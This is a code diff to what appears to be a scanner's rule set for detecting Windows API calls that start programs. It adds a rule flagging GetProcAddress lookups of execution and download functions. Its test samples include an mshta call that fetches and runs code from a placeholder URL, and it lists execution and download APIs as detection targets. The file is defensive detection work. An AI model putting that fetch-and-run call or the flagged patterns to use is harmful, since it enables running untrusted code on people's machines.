@@ -1,5 +1,6 @@
 /** Functions of Windows, of whatever library, that start programs. */
 import { strengthOfCommand } from './commands';
+import { MEMORY_FUNCTIONS } from './injecting';
 import { isBeside, isInDropFolder, isShown, isWeb, runs, strengthOfProgram } from './places';
 import type { Strength, Technique } from './technique';
 
@@ -13,6 +14,13 @@ const PROCESS_FUNCTIONS: readonly string[] =
   openas_rundll shellexec_rundll routethecall launchapplication rtcshell createprocesswithlogonw control_rundll`.split(
     /\s+/,
   );
+
+const HIDDEN_FUNCTIONS: ReadonlySet<string> = new Set([
+  ...PROCESS_FUNCTIONS,
+  ...MEMORY_FUNCTIONS,
+  'shellexecute',
+  'urldownloadtofile',
+]);
 
 export const nativeCalls: readonly Technique[] = [
   {
@@ -54,6 +62,7 @@ export const nativeCalls: readonly Technique[] = [
     attack: ['T1106'],
     fires: [
       declared('Go', 'shell32', 'ShellExecuteA', 'Go(0, "open", "mshta", "http://files.invalid/a", "", 0)'),
+      declared('Go', 'shell32', 'ShellExecuteW', 'Go(0, 0, StrPtr("notreal.exe"), 0, 0, 0)'),
       declared(
         'Go',
         'shell32',
@@ -76,6 +85,18 @@ export const nativeCalls: readonly Technique[] = [
     attack: ['T1129'],
     fires: [declared('Bring', 'kernel32', 'LoadLibraryA', 'Bring("C:\\ProgramData\\notreal.ocx")')],
     silent: [declared('Bring', 'kernel32', 'LoadLibraryA', 'Bring("riched20.dll")')],
+  },
+  {
+    id: 'native-address',
+    does: 'starts',
+    calls: ['getprocaddress', 'ldrgetprocedureaddress'],
+    on: 'library',
+    matters: ({ arguments: values }) => values.slice(1, 2),
+    // Whoever declares a function by its name would declare these; whoever asks for their address hides that he calls them.
+    strength: (name) => (HIDDEN_FUNCTIONS.has(name.replace(/(?<=[a-z]{4})[aw]$/, '')) ? 1 : 0),
+    attack: ['T1106', 'T1027.007'],
+    fires: [declared('Ask', 'kernel32', 'GetProcAddress', 'Ask(0, "WinExec")')],
+    silent: [declared('Ask', 'kernel32', 'GetProcAddress', 'Ask(0, "IsWow64Process")')],
   },
   {
     id: 'own-library',
